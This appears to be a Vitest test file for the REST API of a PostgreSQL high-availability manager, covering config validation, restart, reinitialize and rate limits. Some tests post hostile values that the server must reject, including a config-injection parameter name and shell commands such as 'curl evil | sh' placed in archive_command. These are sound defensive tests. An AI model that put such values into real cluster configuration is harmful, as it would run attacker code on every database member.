import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createClusterStore, createMemoryBackend, silentLogger, systemClock, type ClusterStore, type DcsDriver } from '@pgha/dcs';
import type { ScheduledRestartIntent } from '@pgha/ha-engine';
import type { CycleSummary, LoopPort } from '../src/local-actions.js';
import { createApiMetrics } from '../src/metrics.js';
import { createApiServer, type ApiServer, type ApiServerOptions } from '../src/server.js';
import { managementOn, snapshot } from './fixtures.js';

const timing = { ttl: 10, loopWait: 1, retryTimeout: 2 };
const backend = createMemoryBackend();
const drivers: DcsDriver[] = [];
function store(name: string): ClusterStore {
  const driver = backend.createDriver({ ...timing, namespace: '/service', scope: 'demo', name, section: {}, clock: systemClock, logger: silentLogger });
  drivers.push(driver);
  return createClusterStore(driver, { name, logger: silentLogger });
}

/**
 * A stand-in for the HA loop that plays the engine's part for restart and reinitialize:
 * consumes the intent in the next "cycle" and reports what it did, as the real loop's onCycle does.
 */
class FakeLoop implements LoopPort {
  intents = new Set<string>();
  runningNow: { kind: string; label: string } | null = null;
  listeners = new Set<(c: CycleSummary) => void>();
  requests: string[] = [];
  /** What the next cycle decides for a reinitialize: started, or Patroni's refusal. */
  reinitReason = 'reinitialize started';
  restartOk = true;
  /** Cycles reported before the one that decides a request (see the test of answers). */
  before: CycleSummary[] = [];
  tokens = new Map<string, number>();
  nextToken = 1;
  request(kind: 'restart' | 'reinitialize', fromLeader?: boolean): number {
    this.requests.push(kind === 'reinitialize' ? `reinitialize(${fromLeader === true})` : kind);
    this.intents.add(kind);
    const token = this.nextToken++;
    this.tokens.set(kind, token);
    setTimeout(() => this.cycle(), 5);
    return token;
  }
  pending(kind: 'restart' | 'reinitialize'): boolean {
    return this.intents.has(kind);
  }
  /** The scheduled restart as recorded: when it runs is the engine's (ha-engine scheduled-restart tests). */
  scheduledRestart: ScheduledRestartIntent | null = null;
  schedule(restart: ScheduledRestartIntent): void {
    this.scheduledRestart = restart;
  }
  scheduled() {
    return this.scheduledRestart;
  }
  unschedule(): void {
    this.scheduledRestart = null;
  }
  running() {
    return this.runningNow;
  }
  onCycle(listener: (c: CycleSummary) => void) {
    this.listeners.add(listener);
    return () => void this.listeners.delete(listener);
  }
  emit(c: CycleSummary) {
    for (const l of [...this.listeners]) l(c);
  }
  cycle() {
    if (this.intents.delete('restart')) {
      this.runningNow = { kind: 'restart', label: 'restart' };
      this.emit({ reason: 'restarting PostgreSQL as requested', actions: ['consume_intent(restart)', 'restart'], running: this.runningNow, lastAction: null, saw: { restart: this.tokens.get('restart')! } });
      setTimeout(() => {
        this.runningNow = null;
        this.emit({ reason: 'no action', actions: [], running: null, lastAction: { kind: 'restart', ok: this.restartOk, startedAt: 7, ...(this.restartOk ? {} : { error: 'pg_ctl failed' }) }, saw: {} });
      }, 20);
    }
    if (this.intents.delete('reinitialize')) {
      // Reported once the request is no longer pending, where only its token tells them apart.
      for (const c of this.before.splice(0)) this.emit(c);
      const started = this.reinitReason === 'reinitialize started';
      this.emit({ reason: this.reinitReason, actions: started ? ['consume_intent(reinitialize)', 'reinitialize(pg0)'] : ['consume_intent(reinitialize)'], running: null, lastAction: null, saw: { reinitialize: this.tokens.get('reinitialize')! } });
    }
  }
}

const pg0 = store('pg0');
const pg1 = store('pg1');
const loop = new FakeLoop();
let reloads = 0;
const auth = { Authorization: `Basic ${Buffer.from('admin:secret').toString('base64')}`, 'Content-Type': 'application/json' };
const servers: ApiServer[] = [];

function options(over: Partial<ApiServerOptions> = {}): ApiServerOptions {
  return {
    host: '127.0.0.1',
    port: 0,
    authentication: { username: 'admin', password: 'secret' },
    now: () => systemClock.now(),
    logger: silentLogger,
    httpExtraHeaders: { 'X-Frame-Options': 'SAMEORIGIN' },
    metrics: createApiMetrics(),
    management: managementOn(pg1),
    local: {
      loop,
      reload: async () => void reloads++,
      now: () => systemClock.now(),
      wallNow: () => new Date(),
      loopWait: () => 1,
    },
    unsafeRate: { perSecond: 1000, burst: 1000 },
    ...over,
  };
}

async function start(over: Partial<ApiServerOptions> = {}): Promise<{ api: ApiServer; base: string }> {
  const api = createApiServer(options(over));
  servers.push(api);
  const address = await api.listen();
  return { api, base: `${over.tls ? 'https' : 'http'}://127.0.0.1:${address.port}` };
}

let api: ApiServer;
let base: string;

beforeAll(async () => {
  for (const [s, role] of [[pg0, 'primary'], [pg1, 'replica']] as const) {
    await s.touchMember({ role, state: 'running', api_url: 'http://127.0.0.1:1/patroni', conn_url: 'postgres://127.0.0.1:5432/postgres', tags: {}, extra: {}, xlog_location: 100 });
  }
  expect(await pg0.acquireLeader()).toBe(true);
  await pg0.setConfig({ ttl: 10, loop_wait: 1, postgresql: { parameters: { work_mem: '4MB', max_connections: 100 } } });
  await pg0.setHistory([{ timeline: 1, lsn: 5000, reason: 'no recovery target specified', timestamp: '2026-01-01T00:00:00+00:00', new_leader: 'pg0' }]);
  ({ api, base } = await start());
  api.publish({ ...snapshot({ role: 'replica', server_version: 150004 }), cluster: await pg1.loadCluster() });
});

afterAll(async () => {
  await Promise.all(servers.map((s) => s.close()));
  await Promise.all(drivers.map((d) => d.close()));
});

const post = (path: string, body: unknown, method = 'POST', headers: Record<string, string> = auth) =>
  fetch(`${base}${path}`, { method, body: typeof body === 'string' ? body : JSON.stringify(body), headers });

describe('read endpoints', () => {
  it('serves /cluster, /history, /config and /failsafe from the last cycle', async () => {
    const cluster = await fetch(`${base}/cluster`);
    expect(cluster.headers.get('content-type')).toBe('application/json');
    expect(cluster.headers.get('x-frame-options')).toBe('SAMEORIGIN');
    const body = (await cluster.json()) as { members: { name: string; role: string; host: string; port: number; lag?: unknown }[]; scope: string };
    expect(body.scope).toBe('demo');
    expect(body.members.map((m) => [m.name, m.role, m.host, m.port])).toEqual([
      ['pg0', 'leader', '127.0.0.1', 5432],
      ['pg1', 'replica', '127.0.0.1', 5432],
    ]);
    expect(body.members[1]!.lag).toBe(0);
    const history = await fetch(`${base}/history`);
    expect(await history.json()).toEqual([[1, 5000, 'no recovery target specified', '2026-01-01T00:00:00+00:00', 'pg0']]);
    expect(((await (await fetch(`${base}/config`)).json()) as { ttl: number }).ttl).toBe(10);
    expect((await fetch(`${base}/failsafe`)).status).toBe(502);
  });

  it('adds what a rewind of this member discarded to its timeline line of /history', async () => {
    const report = { timeline: 1, from: '0/1388', to: '0/2000', bytes: 3192, transactions: 2, relations: [{ rel: '1663/5/16384', records: 2 }] };
    const { api: rewound, base: url } = await start();
    rewound.publish({ ...snapshot({ role: 'replica', server_version: 150004 }), cluster: await pg1.loadCluster(), salvage: [report, { timeline: 7 }] });
    const history = await fetch(`${url}/history`);
    expect(await history.json()).toEqual([[1, 5000, 'no recovery target specified', '2026-01-01T00:00:00+00:00', 'pg0', { salvage: [report] }]]);
  });

  it('serves Patroni metrics with scope and name labels, plus pgha metrics', async () => {
    const res = await fetch(`${base}/metrics`);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toContain('text/plain');
    const text = await res.text();
    expect(text).toContain('# TYPE patroni_postgres_running gauge');
    expect(text).toContain('patroni_postgres_running{scope="demo",name="pg1"} 1');
    expect(text).toContain('patroni_replica{scope="demo",name="pg1"} 1');
    expect(text).toContain('patroni_primary{scope="demo",name="pg1"} 0');
    expect(text).toContain('patroni_postgres_server_version{scope="demo",name="pg1"} 150004');
    expect(text).toContain('patroni_version{scope="demo",name="pg1"} 000100');
    expect(text).toMatch(/pgha_ha_cycle_duration_seconds_count\{scope="demo",name="pg1"\} 0/);
    expect(text).toMatch(/pgha_api_requests_total\{scope="demo",name="pg1"\} \d+/);
    expect(text).toContain('pgha_replica_not_streaming_seconds{scope="demo",name="pg1"} 0');
    expect(text).toContain('pgha_replica_not_streaming_unhealthy{scope="demo",name="pg1"} 0');
  });

  it('answers HEAD and OPTIONS like GET without a body, and unknown methods with 501', async () => {
    for (const method of ['HEAD', 'OPTIONS']) {
      const res = await fetch(`${base}/cluster`, { method });
      expect([res.status, await res.text()]).toEqual([200, '']);
    }
    const res = await fetch(`${base}/config`, { method: 'DELETE', headers: auth });
    expect(res.status).toBe(501);
  });
});

describe('PATCH and PUT /config', () => {
  it('merges a patch, deletes keys given null, and writes with CAS', async () => {
    const res = await post('/config', { loop_wait: 2, postgresql: { parameters: { work_mem: null, shared_buffers: '64MB' } } }, 'PATCH');
    expect(res.status).toBe(200);
    const expected = { ttl: 10, loop_wait: 2, postgresql: { parameters: { max_connections: 100, shared_buffers: '64MB' } } };
    expect(await res.json()).toEqual(expected);
    expect((await pg1.loadCluster()).config?.value).toEqual(expected);
  });

  it('rejects an invalid value naming the field, and writes nothing', async () => {
    const before = (await pg1.loadCluster()).config?.version;
    const res = await post('/config', { ttl: 'soon' }, 'PATCH');
    expect([res.status, await res.text()]).toEqual([400, 'ttl: expected a number of seconds, got "soon"']);
    const bad = await post('/config', { postgresql: { pg_hba: 'host all all 0.0.0.0/0 trust' } }, 'PATCH');
    expect([bad.status, await bad.text()]).toEqual([400, 'postgresql.pg_hba: expected a list of strings']);
    const negative = await post('/config', { maximum_lag_on_syncnode: -2 }, 'PATCH');
    expect([negative.status, await negative.text()]).toEqual([400, 'maximum_lag_on_syncnode: expected -1 (off) or a non-negative number']);
    const parsecs = await post('/config', { maximum_lag_on_failover: '10 parsecs' }, 'PATCH');
    expect([parsecs.status, await parsecs.text()]).toEqual([
      400,
      'maximum_lag_on_failover: expected a number of bytes or a duration such as 500ms, 10s or 2min, got "10 parsecs"',
    ]);
    const below = await post('/config', { maximum_lag_on_failover: -1 }, 'PATCH');
    expect(below.status).toBe(400);
    expect(await below.text()).toMatch(/^maximum_lag_on_failover: .*must not be negative/);
    expect((await pg1.loadCluster()).config?.version).toBe(before);
  });

  // pgha issue 15 (H5, H6): values that would brick every member are refused before the write.
  it('rejects timing values out of range and postgresql.conf injection, naming the key, and writes nothing', async () => {
    const before = (await pg1.loadCluster()).config?.version;
    const cases: [string, Record<string, unknown>, string][] = [
      ['PATCH', { ttl: 1e7 }, 'ttl: must be between 4 and 86400 seconds, got 10000000'],
      ['PATCH', { retry_timeout: 3e6 }, 'retry_timeout: must be between 1 and 3600 seconds, got 3000000'],
      ['PATCH', { ttl: 1 }, 'ttl: must be between 4 and 86400 seconds, got 1'],
      ['PATCH', { postgresql: { parameters: { "x = 1\ninclude '/tmp/evil'": 'on' } } }, 'postgresql.parameters."x = 1\\ninclude \'/tmp/evil\'": not a valid parameter name'],
      ['PATCH', { postgresql: { pg_ident: ['a b c\nd e f'] } }, 'postgresql.pg_ident[0]: a line must not contain a line break or NUL'],
      ['PUT', { ttl: 1e7, loop_wait: 10 }, 'ttl: must be between 4 and 86400 seconds, got 10000000'],
    ];
    for (const [method, body, text] of cases) {
      const res = await post('/config', body, method);
      expect([method, res.status, await res.text()]).toEqual([method, 400, text]);
    }
    expect((await pg1.loadCluster()).config?.version).toBe(before);
    expect((await post('/config', { ttl: 4, loop_wait: 1, retry_timeout: 1 }, 'PATCH')).status).toBe(200);
    expect((await post('/config', { ttl: 10, retry_timeout: null }, 'PATCH')).status).toBe(200);
  });

  it('GET /config shows the configuration in effect and says when the stored one is invalid; PATCH refuses to merge into it', async () => {
    const cluster = await pg1.loadCluster();
    const good = cluster.config!.value;
    api.publish({ ...snapshot({ role: 'replica' }), cluster, configProblem: 'config.ttl: must be between 4 and 86400 seconds, got 10000000', configInEffect: { ...good, pause: true } });
    const res = await fetch(`${base}/config`);
    expect([res.status, res.headers.get('x-pgha-config-invalid'), await res.json()]).toEqual([
      200,
      'config.ttl: must be between 4 and 86400 seconds, got 10000000',
      { ...good, pause: true },
    ]);
    api.publish({ ...snapshot({ role: 'replica' }), cluster, configProblem: 'the config key does not parse (config: not valid JSON: "{")', configInEffect: null });
    const none = await fetch(`${base}/config`);
    expect([none.status, none.headers.get('x-pgha-config-invalid')]).toEqual([502, 'the config key does not parse (config: not valid JSON: "{")']);

    expect(await pg1.driver.write('config', '{"ttl":', { kind: 'any' })).toBe(true);
    const patch = await post('/config', { pause: true }, 'PATCH');
    expect([patch.status, await patch.text()]).toEqual([503, 'The configuration in the DCS is invalid (config: not valid JSON: "{\\"ttl\\":"); replace it with PUT /config or pghactl edit-config']);
    expect((await post('/config', good, 'PUT')).status).toBe(200);
    api.publish({ ...snapshot({ role: 'replica', server_version: 150004 }), cluster: await pg1.loadCluster() });
    const fixed = await fetch(`${base}/config`);
    expect([fixed.status, fixed.headers.get('x-pgha-config-invalid'), await fixed.json()]).toEqual([200, null, good]);
  });

  it('accepts maximum_lag_on_failover as bytes or as a replay time', async () => {
    for (const value of [2097152, '10s', '500ms', '2min']) {
      const res = await post('/config', { maximum_lag_on_failover: value }, 'PATCH');
      expect(res.status).toBe(200);
      expect((await pg1.loadCluster()).config?.value?.['maximum_lag_on_failover']).toBe(value);
    }
  });

  it("accepts -1 for maximum_lag_on_syncnode, Patroni's off", async () => {
    const res = await post('/config', { maximum_lag_on_syncnode: -1 }, 'PATCH');
    expect(res.status).toBe(200);
    expect((await pg1.loadCluster()).config?.value?.['maximum_lag_on_syncnode']).toBe(-1);
  });

  it('replaces the whole value with PUT', async () => {
    const res = await post('/config', { ttl: 20, loop_wait: 1, retry_timeout: 5 }, 'PUT');
    expect(res.status).toBe(200);
    expect((await pg1.loadCluster()).config?.value).toEqual({ ttl: 20, loop_wait: 1, retry_timeout: 5 });
  });

  it('pauses and resumes the way patronictl does', async () => {
    expect((await post('/config', { pause: true }, 'PATCH')).status).toBe(200);
    expect((await pg1.loadCluster()).config?.value['pause']).toBe(true);
    expect((await post('/config', { pause: null }, 'PATCH')).status).toBe(200);
    expect((await pg1.loadCluster()).config?.value['pause']).toBeUndefined();
  });

  // pgha issue 16 (review C1): PostgreSQL runs these as the postgres user on every member.
  it('refuses commands unless this member allows them (postgresql.allow_dcs_commands), naming the key and the switch', async () => {
    const before = (await pg1.loadCluster()).config!;
    const switchText = 'commands are not accepted in the dynamic configuration unless the local YAML sets postgresql.allow_dcs_commands: true';
    const cases: [string, Record<string, unknown>, string][] = [
      ['PATCH', { postgresql: { recovery_conf: { archive_cleanup_command: 'touch /tmp/pwned' } } }, 'postgresql.recovery_conf.archive_cleanup_command'],
      ['PATCH', { postgresql: { parameters: { archive_mode: 'on', archive_command: 'curl evil | sh' } } }, 'postgresql.parameters.archive_command'],
      ['PATCH', { postgresql: { parameters: { ssl_passphrase_command: 'sh -c id' } } }, 'postgresql.parameters.ssl_passphrase_command'],
      ['PATCH', { standby_cluster: { host: '10.0.0.9', port: 5433, restore_command: 'cp /wal/%f %p' } }, 'standby_cluster.restore_command'],
      ['PUT', { ...before.value, standby_cluster: { host: '10.0.0.9', archive_cleanup_command: 'x' } }, 'standby_cluster.archive_cleanup_command'],
    ];
    for (const [method, body, key] of cases) {
      const res = await post('/config', body, method);
      const text = await res.text();
      expect([method, key, res.status]).toEqual([method, key, 400]);
      expect(text.startsWith(`${key}: PostgreSQL would run it as a shell command on every member; ${switchText}`)).toBe(true);
    }
    // Scripts pgha runs itself are local-only whatever the switch.
    const hook = await post('/config', { postgresql: { callbacks: { on_start: '/tmp/x' } } }, 'PATCH');
    expect([hook.status, await hook.text()]).toEqual([400, 'postgresql.callbacks: pgha runs callbacks, hooks and replica methods only from the local YAML (postgresql.callbacks); a value in the dynamic configuration is never used']);
    expect((await pg1.loadCluster()).config?.version).toBe(before.version);

    // A standby_cluster without commands is accepted, and removed again.
    expect((await post('/config', { standby_cluster: { host: '10.0.0.9', port: 5433, primary_slot_name: 'standby_a' } }, 'PATCH')).status).toBe(200);
    expect((await pg1.loadCluster()).config?.value['standby_cluster']).toEqual({ host: '10.0.0.9', port: 5433, primary_slot_name: 'standby_a' });
    expect((await post('/config', { standby_cluster: null }, 'PATCH')).status).toBe(200);

    // A member whose YAML allows them writes one.
    const allowing = await start({ allowDcsCommands: true });
    const command = { postgresql: { recovery_conf: { archive_cleanup_command: 'pg_archivecleanup /wal %r' } } };
    const written = await fetch(`${allowing.base}/config`, { method: 'PATCH', body: JSON.stringify(command), headers: auth });
    expect(written.status).toBe(200);
    expect((await pg1.loadCluster()).config?.value['postgresql']).toMatchObject(command.postgresql);

    // Back on this member: the stored command may stay as it is (pause, PUT of the same value)...
    expect((await post('/config', { pause: true }, 'PATCH')).status).toBe(200);
    expect((await post('/config', (await pg1.loadCluster()).config!.value, 'PUT')).status).toBe(200);
    // ... but not change, and it may always go.
    const changed = await post('/config', { postgresql: { recovery_conf: { archive_cleanup_command: 'touch /tmp/pwned' } } }, 'PATCH');
    expect(changed.status).toBe(400);
    expect(await changed.text()).toMatch(/^postgresql\.recovery_conf\.archive_cleanup_command: /);
    expect((await post('/config', { pause: null, postgresql: null }, 'PATCH')).status).toBe(200);
    expect((await pg1.loadCluster()).config?.value).toEqual(before.value);
  });
});

describe('DELETE /switchover', () => {
  it('deletes a scheduled switchover, then answers 404', async () => {
    await pg1.setFailover({ leader: 'pg0', scheduled_at: new Date(Date.now() + 3600_000).toISOString() });
    const res = await post('/switchover', '', 'DELETE');
    expect([res.status, await res.text()]).toEqual([200, 'scheduled switchover deleted']);
    expect((await pg1.loadCluster()).failover).toBeNull();
    const again = await post('/switchover', '', 'DELETE');
    expect([again.status, await again.text()]).toEqual([404, 'no switchover is scheduled']);
  });
});

describe('restart, reinitialize, reload', () => {
  it('restarts through the loop and reports the outcome', async () => {
    const res = await post('/restart', {});
    expect([res.status, await res.text()]).toEqual([200, 'restarted successfully']);
    expect(loop.requests.at(-1)).toBe('restart');
    loop.restartOk = false;
    const failed = await post('/restart', {});
    loop.restartOk = true;
    expect([failed.status, await failed.text()]).toEqual([503, 'restart failed: pg_ctl failed']);
  });

  it('checks the restart filters and refuses bad ones, naming them', async () => {
    const count = loop.requests.length;
    const wrongRole = await post('/restart', { role: 'primary' });
    expect([wrongRole.status, await wrongRole.text()]).toEqual([503, 'restart conditions are not satisfied']);
    const newer = await post('/restart', { postgres_version: '15.3' });
    expect([newer.status, await newer.text()]).toEqual([503, 'restart conditions are not satisfied']);
    const notPending = await post('/restart', { restart_pending: true });
    expect(notPending.status).toBe(503);
    const badRole = await post('/restart', { role: 'boss' });
    expect([badRole.status, await badRole.text()]).toEqual([400, 'PostgreSQL role should be either primary or replica']);
    const badKey = await post('/restart', { when: 'now' });
    expect([badKey.status, await badKey.text()]).toEqual([400, 'Unknown filter for the scheduled restart: when']);
    const badVersion = await post('/restart', { postgres_version: 'fifteen' });
    expect(badVersion.status).toBe(400);
    expect(loop.requests.length).toBe(count);
    const older = await post('/restart', { postgres_version: '15.5', role: 'replica' });
    expect([older.status, await older.text()]).toEqual([200, 'restarted successfully']);
  });

  it('schedules a restart, shows it in /patroni, refuses a second one, deletes it', async () => {
    const at = new Date(Date.now() + 3600_000).toISOString();
    const noTz = await post('/restart', { schedule: '2030-01-01T00:00:00' });
    expect([noTz.status, await noTz.text()]).toEqual([400, 'Timezone information is mandatory for the scheduled restart']);
    const past = await post('/restart', { schedule: '2001-01-01T00:00:00+00:00' });
    expect([past.status, await past.text()]).toEqual([422, 'Cannot schedule restart in the past']);
    const res = await post('/restart', { schedule: at, postgres_version: '16.0' });
    expect([res.status, await res.text()]).toEqual([202, 'Restart scheduled']);
    const status = (await (await fetch(`${base}/patroni`)).json()) as { scheduled_restart?: Record<string, unknown> };
    expect(status.scheduled_restart?.['schedule']).toBe(at);
    const second = await post('/restart', { schedule: at });
    expect([second.status, await second.text()]).toEqual([409, 'Another restart is already scheduled']);
    const del = await post('/restart', '', 'DELETE');
    expect([del.status, await del.text()]).toEqual([200, 'scheduled restart deleted']);
    expect(((await (await fetch(`${base}/patroni`)).json()) as { scheduled_restart?: unknown }).scheduled_restart).toBeUndefined();
    const none = await post('/restart', '', 'DELETE');
    expect([none.status, await none.text()]).toEqual([404, 'no restarts are scheduled']);
  });

  it('records a scheduled restart for the engine, asking for no restart itself', async () => {
    const count = loop.requests.length;
    const at = new Date(Date.now() + 3600_000);
    const res = await post('/restart', { schedule: at.toISOString(), role: 'replica', postgres_version: '15.5' });
    expect([res.status, await res.text()]).toEqual([202, 'Restart scheduled']);
    expect(loop.scheduled()).toEqual({ dueAt: at.getTime(), schedule: at.toISOString(), filters: { role: 'replica', postgresVersion: 150005 } });
    // When it is due and whether it runs is the engine's cycle's (scheduledRestartStep).
    expect(loop.requests.length).toBe(count);
    loop.unschedule();
  });

  it('reinitializes a replica and relays the engine refusal', async () => {
    const res = await post('/reinitialize', { force: true });
    expect([res.status, await res.text()]).toEqual([200, 'reinitialize started']);
    expect(loop.requests.at(-1)).toBe('reinitialize(false)');
    loop.reinitReason = 'Cluster has no leader, can not reinitialize';
    const refused = await post('/reinitialize', { from_leader: true });
    loop.reinitReason = 'reinitialize started';
    expect([refused.status, await refused.text()]).toEqual([503, 'Cluster has no leader, can not reinitialize']);
    const bad = await post('/reinitialize', { force: 'yes' });
    expect([bad.status, await bad.text()]).toEqual([400, 'force: expected true or false']);
  });

  it('answers a reinitialize from the cycle that decided it, not from cycles around it', async () => {
    // A cycle whose decision still ran an earlier reinitialize (it saw the request, consumed nothing),
    // and one that consumed a request of an older token: neither is this request's answer.
    loop.before.push(
      { reason: 'reinitialize in progress', actions: [], running: { kind: 'reinitialize', label: 'reinitialize' }, lastAction: null, saw: { reinitialize: loop.nextToken } },
      { reason: 'I am the leader, can not reinitialize', actions: ['consume_intent(reinitialize)'], running: null, lastAction: null, saw: { reinitialize: loop.nextToken - 1 } },
    );
    const res = await post('/reinitialize', {});
    expect([res.status, await res.text()]).toEqual([200, 'reinitialize started']);
  });

  it('refuses to reinitialize the leader', async () => {
    const { api: leaderApi, base: leaderBase } = await start();
    leaderApi.publish({ ...snapshot({ role: 'master' }), hasLock: true, cluster: await pg1.loadCluster() });
    const res = await fetch(`${leaderBase}/reinitialize`, { method: 'POST', body: '{}', headers: auth });
    expect([res.status, await res.text()]).toEqual([503, 'I am the leader, can not reinitialize']);
  });

  it('schedules a reload with 202', async () => {
    const before = reloads;
    const res = await post('/reload', '');
    expect([res.status, await res.text()]).toEqual([202, 'reload scheduled']);
    await new Promise((r) => setTimeout(r, 20));
    expect(reloads).toBe(before + 1);
  });
});

describe('limits', () => {
  it('refuses bodies over the size limit with 413 and missing lengths with 411', async () => {
    const big = await post('/config', JSON.stringify({ x: 'a'.repeat(70_000) }), 'PATCH');
    expect(big.status).toBe(413);
    const { base: small } = await start({ maxBodyBytes: 10 });
    const streamed = await fetch(`${small}/config`, { method: 'PATCH', headers: auth, body: new Blob(['{"pause": true, "x": 1}']).stream(), duplex: 'half' } as RequestInit);
    expect(streamed.status).toBe(413);
  });

  it('rate-limits unsafe requests with 429 while GETs keep answering', async () => {
    const { api: limited, base: lb } = await start({ unsafeRate: { perSecond: 0.001, burst: 3 } });
    limited.publish(snapshot());
    const statuses: number[] = [];
    for (let i = 0; i < 6; i++) statuses.push((await fetch(`${lb}/reload`, { method: 'POST', body: '', headers: auth })).status);
    expect(statuses.slice(0, 3)).toEqual([202, 202, 202]);
    expect(statuses.slice(3)).toEqual([429, 429, 429]);
    expect((await fetch(`${lb}/replica`)).status).toBe(200);
  });
});
